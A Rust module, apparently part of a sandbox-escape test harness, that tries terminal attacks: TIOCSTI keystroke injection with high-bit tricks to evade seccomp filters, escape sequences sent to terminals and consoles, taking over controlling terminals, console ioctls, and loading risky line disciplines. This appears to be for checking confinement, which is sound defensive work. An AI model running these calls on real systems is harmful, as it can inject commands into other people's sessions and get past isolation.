//! Typing into someone else's terminal.

use crate::Entry;
use crate::attempt::{Arguments, Attempt};
use crate::sys::{Fault, Try, at, call, fd, in_child, nothing, open};
use std::os::fd::OwnedFd;
use std::path::Path;

pub(crate) const ATTACKS: &[Entry] = &[
    ("terminal-input", terminal_input),
    ("terminal-output", terminal_output),
    ("terminal-steal", terminal_steal),
    ("terminal-console", terminal_console),
    ("terminal-discipline", terminal_discipline),
    ("terminal-others", terminal_others),
];

const TIOCSTI: usize = 0x5412;

/// A pseudo-terminal of its own, as controlling terminal of a session of its own.
fn own_terminal() -> Try<(OwnedFd, OwnedFd)> {
    let _ = call(libc::SYS_setsid, &[]);
    // Closing the other side hangs up on whoever controls this one.
    // SAFETY: ignoring a signal touches no memory.
    unsafe { libc::signal(libc::SIGHUP, libc::SIG_IGN) };
    let main = open(Path::new("/dev/ptmx"), libc::O_RDWR | libc::O_NOCTTY)?;
    let (mut number, unlocked) = (0_i32, 0_i32);
    call(libc::SYS_ioctl, &[fd(&main), 0x4004_5431, at(&unlocked)])?;
    call(
        libc::SYS_ioctl,
        &[fd(&main), 0x8004_5430, &raw mut number as usize],
    )?;
    let side = open(Path::new(&format!("/dev/pts/{number}")), libc::O_RDWR)?;
    let _ = call(libc::SYS_ioctl, &[fd(&side), 0x540e, 0]);
    Ok((main, side))
}

fn type_into(descriptor: usize, request: usize) -> Try {
    call(
        libc::SYS_ioctl,
        &[descriptor, request, at(b"\n".as_slice())],
    )?;
    Ok("typed into a terminal".to_owned())
}

fn terminal_input(_: &Arguments, attempt: &mut Attempt) {
    // The kernel reads 32 bits of a request; a filter that compares 64 is passed by the others.
    for high in [0_usize, 1 << 32, 1 << 63] {
        attempt.route(format!("TIOCSTI {high:#x} on an own terminal"), || {
            in_child(|| {
                let (_main, side) = own_terminal()?;
                type_into(fd(&side), TIOCSTI | high)
            })
        });
        for number in 0..3 {
            attempt.route(format!("TIOCSTI {high:#x} on descriptor {number}"), || {
                type_into(number, TIOCSTI | high)
            });
        }
    }
    attempt.route("TIOCSTI on /dev/tty", || {
        let terminal = open(Path::new("/dev/tty"), libc::O_RDWR)?;
        type_into(fd(&terminal), TIOCSTI)
    });
}

/// Escape sequences straight to the person's terminal, past whoever cleans the output.
fn terminal_output(arguments: &Arguments, attempt: &mut Attempt) {
    let sequence = b"\x1b]0;taken over\x07\x1b]52;c;AAAA\x07".as_slice();
    if arguments.is("own") {
        attempt.route("write an own controlling terminal by /dev/tty", || {
            in_child(|| {
                let (_main, _side) = own_terminal()?;
                let terminal = open(Path::new("/dev/tty"), libc::O_RDWR)?;
                call(
                    libc::SYS_write,
                    &[fd(&terminal), at(sequence), sequence.len()],
                )?;
                Ok("wrote to the terminal".to_owned())
            })
        });
    }
    for path in ["/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1"] {
        attempt.route(format!("write {path}"), || {
            let terminal = open(Path::new(path), libc::O_WRONLY | libc::O_NOCTTY)?;
            call(
                libc::SYS_write,
                &[fd(&terminal), at(sequence), sequence.len()],
            )?;
            Ok("wrote to the terminal".to_owned())
        });
    }
    for number in 0..3_usize {
        attempt.route(format!("is descriptor {number} a terminal"), || {
            let mut settings = [0_u8; 64];
            call(
                libc::SYS_ioctl,
                &[number, 0x5401, settings.as_mut_ptr() as usize],
            )?;
            Ok("holds a terminal".to_owned())
        });
    }
}

/// Taking a terminal from the session it belongs to.
fn terminal_steal(arguments: &Arguments, attempt: &mut Attempt) {
    if arguments.is("own") {
        attempt.route("TIOCSCTTY of an own terminal", || {
            in_child(|| {
                let (_main, side) = own_terminal()?;
                let mut session = 0_i32;
                call(
                    libc::SYS_ioctl,
                    &[fd(&side), 0x5429, &raw mut session as usize],
                )?;
                Ok(format!("controls it from session {session}"))
            })
        });
        return;
    }
    for number in 0..3_usize {
        attempt.route(format!("TIOCSCTTY of descriptor {number}"), || {
            in_child(|| {
                let _ = call(libc::SYS_setsid, &[]);
                call(libc::SYS_ioctl, &[number, 0x540e, 1])?;
                Ok("took the terminal".to_owned())
            })
        });
        attempt.route(format!("TIOCGPTPEER of descriptor {number}"), || {
            call(libc::SYS_ioctl, &[number, 0x5441, 2])?;
            Ok("opened the other side".to_owned())
        });
    }
}

/// Requests of consoles: paste buffers, redirected output, loaded key maps.
fn terminal_console(_: &Arguments, attempt: &mut Attempt) {
    for (word, request) in [
        ("TIOCLINUX", 0x541c_usize),
        ("TIOCCONS", 0x541d),
        ("KDSKBENT", 0x4b47),
        ("TIOCSTI's neighbour TIOCMSET", 0x5418),
        ("TIOCVHANGUP", 0x5437),
    ] {
        attempt.route(word, || {
            in_child(|| {
                let (_main, side) = own_terminal()?;
                match call(libc::SYS_ioctl, &[fd(&side), request, at(&[3_u8, 0])]) {
                    Err(Fault::Errno(libc::EPERM)) => Err(Fault::Errno(libc::EPERM)),
                    Err(fault) => Ok(format!("the kernel itself answered {fault}")),
                    Ok(_) => Ok("answered".to_owned()),
                }
            })
        });
    }
}

/// Line disciplines are old drivers with a history of holes.
fn terminal_discipline(_: &Arguments, attempt: &mut Attempt) {
    for (word, discipline) in [
        ("N_SLIP", 1_i32),
        ("N_GSM", 21),
        ("N_HDLC", 13),
        ("N_NULL", 27),
        ("N_TTY", 0),
    ] {
        attempt.route(format!("TIOCSETD {word}"), || {
            in_child(|| {
                let (_main, side) = own_terminal()?;
                call(libc::SYS_ioctl, &[fd(&side), 0x5423, at(&discipline)])?;
                Ok(format!("set {word}"))
            })
        });
    }
}

/// Terminals of other people.
fn terminal_others(arguments: &Arguments, attempt: &mut Attempt) {
    for path in arguments.list("paths") {
        attempt.route(format!("write {path}"), || {
            let terminal = open(Path::new(&path), libc::O_RDWR | libc::O_NOCTTY)?;
            call(libc::SYS_write, &[fd(&terminal), at(b"\x07".as_slice()), 1])?;
            Ok(format!("wrote {path}"))
        });
    }
    attempt.route("look for it", || nothing("NOT-THERE"));
}
